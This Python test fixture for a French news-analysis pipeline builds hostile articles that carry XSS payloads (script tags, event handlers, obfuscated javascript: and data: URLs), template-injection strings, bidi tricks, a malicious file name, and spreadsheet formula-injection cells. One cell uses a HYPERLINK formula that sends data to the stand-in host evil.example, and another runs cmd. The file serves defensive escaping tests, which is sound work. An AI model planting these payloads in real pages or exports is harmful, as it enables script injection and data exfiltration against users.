"""Attacker-controlled articles for the desk's hostile-content tests (tests/test_web_hostile.py).

Every payload, were it ever run, would set ``window.__pwned`` and open an ``alert``: the browser
tests check both, so a payload that slipped through would show whichever way it ran. The texts are
real French news sentences the pipeline understands, so the payloads travel beyond the article
text into titles, sites and URLs, speaker names, claims (control of a place, a relation the
knowledge base contradicts), flags and the map: every kind of page gets its share.
"""

from __future__ import annotations

import json
from pathlib import Path

from claimscope import batch
from claimscope.store import Store

SCRIPT = "<script>window.__pwned=1;alert(1)</script>"
IMG = '"><img src=x onerror="window.__pwned=2;alert(2)">'
JS_URL = "javascript:window.__pwned=3;alert(3)"
TEXTAREA = '</textarea><svg onload="window.__pwned=4;alert(4)">'
ANCHOR = '<a href="javascript:window.__pwned=8;alert(8)">lien</a>'
TEMPLATE = "{{7*7}} {% raw %}{{ config }}{% endraw %} ${7*7} #{7*7}"
BIDI = "\u202eevil\u202c \u2066isolé\u2069"
AUTHOR = f"Par {TEXTAREA}"
PLACE_IMG = '<img src=x onerror="window.__pwned=6;alert(6)">'
SITE_SCRIPT = "<script>window.__pwned=10;alert(10)</script>"
# what the pipeline makes of markup around a speaker: the tokens before "=" become the name
SPEAKER_SENTENCE = "« Nous ne céderons pas », a déclaré <b onmouseover=alert(5)>Jean Dupont</b>, porte-parole."
SPEAKER = "<b onmouseover"
GROUP_SENTENCE = 'Selon Jean-"><svg/onload="window.__pwned=15;alert(15)">Dupont, la ville est tombée.'
GROUP = 'Jean-"><svg'
QUERY = "<script>window.__pwned=7;alert(7)</script>"
# the file name of a plain-text input is its source, shown as such
FILE_NAME = '"><svg onload=alert(13)>.txt'

# every fragment that would be live markup if a page pasted stored text in unescaped
LIVE = ("<script>window.__pwned", "<img src=x onerror", "<svg onload", "<b onmouseover", '<a href="javascript:')

FIRST = {
    "id": "hostile-1",
    "url": JS_URL,
    "site": IMG,
    "title": f"Titre {SCRIPT} {BIDI}",
    "author": AUTHOR,
    "published": "2025-12-01",
    "language": "fr",
    "text": "\n\n".join(
        [
            f"Négociations à Moscou {SCRIPT} et {IMG} avant la rencontre {TEMPLATE}.",
            SPEAKER_SENTENCE,
            f"Les forces russes ont pris le contrôle de {PLACE_IMG}Pokrovsk, "
            "a affirmé le ministère russe de la Défense.",
            f"Jared Kushner, gendre de Vladimir Poutine, a rencontré des responsables ukrainiens {SCRIPT}, "
            "a déclaré une source.",
            f"Le texte {TEXTAREA} et {ANCHOR} {BIDI} \ue000marque\ue001 se termine ici, selon la rédaction.",
        ]
    ),
}
SECOND = {
    "id": "hostile-2",
    "url": f'https://example.org/">{SCRIPT}',
    "site": SITE_SCRIPT,
    "title": f"{TEMPLATE} </title>{SCRIPT}",
    "published": "2025-12-03",
    "language": "fr",
    "text": "\n\n".join(
        [
            GROUP_SENTENCE,
            f"Les forces ukrainiennes contrôlent toujours Pokrovsk {PLACE_IMG}, a assuré l'état-major ukrainien.",
            f"Volodymyr Zelensky a déclaré que « les combats continuent à Pokrovsk {IMG} ».",
        ]
    ),
}
THIRD_TEXT = "\n\n".join(
    [
        f"Dépêche {TEXTAREA} reçue par fichier.",
        "La Russie affirme avoir pris le contrôle complet de la ville de Pokrovsk, a annoncé le Kremlin.",
        f"« Ce n'est pas vrai {SCRIPT} », a répondu Jean Martin, porte-parole de l'armée ukrainienne.",
    ]
)
# URLs a careless scheme check lets through; each on a short article of its own
URL_VARIANTS = (
    " \tjava\nscript:window.__pwned=16;alert(16)",
    "JaVaScRiPt:window.__pwned=17;alert(17)",
    "data:text/html,<script>window.__pwned=18;alert(18)</script>",
    "https:javascript:window.__pwned=19;alert(19)",
)
SHORT = [
    {
        "url": url,
        "title": f"Lien piégé {number}",
        "published": "2025-12-04",
        "language": "fr",
        "text": f"Article court numéro {number} sur la guerre en Ukraine, publié par un site inconnu.",
    }
    for number, url in enumerate(URL_VARIANTS, start=1)
]
# cells a spreadsheet would run as formulas, for the CSV exports
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"clic")'
FORMULA_SITE = "@SUM(1+1)*cmd|' /C calc'!A0"
SPREADSHEET = {
    "url": "https://example.org/tableur",
    "site": FORMULA_SITE,
    "title": FORMULA,
    "published": "2025-12-05",
    "language": "fr",
    "text": f"« {FORMULA} », a déclaré Jean Martin, porte-parole du gouvernement.",
}
# a record the reader refuses: its id ends up in the problems the store keeps
BAD_RECORD = {"id": SCRIPT, "title": IMG, "text": 5}


def write_corpus(folder: Path) -> list[Path]:
    """The hostile inputs as files the CLI would be given: one JSONL feed and one plain-text page."""
    folder.mkdir(parents=True, exist_ok=True)
    feed = folder / "hostile.jsonl"
    records = (FIRST, SECOND, *SHORT, SPREADSHEET, BAD_RECORD)
    feed.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    page = folder / FILE_NAME
    page.write_text(THIRD_TEXT + "\n", encoding="utf-8")
    return [feed, page]


def hostile_store(folder: Path) -> Store:
    """The hostile corpus analysed by the real pipeline and stored in SQLite under ``folder``."""
    store = Store(f"sqlite:///{folder / 'hostile.db'}")
    summary = batch.ingest(write_corpus(folder / "inputs"), store)
    assert summary.stored == 4 + len(SHORT), summary
    assert len(summary.problems) == 1, summary.problems
    return store
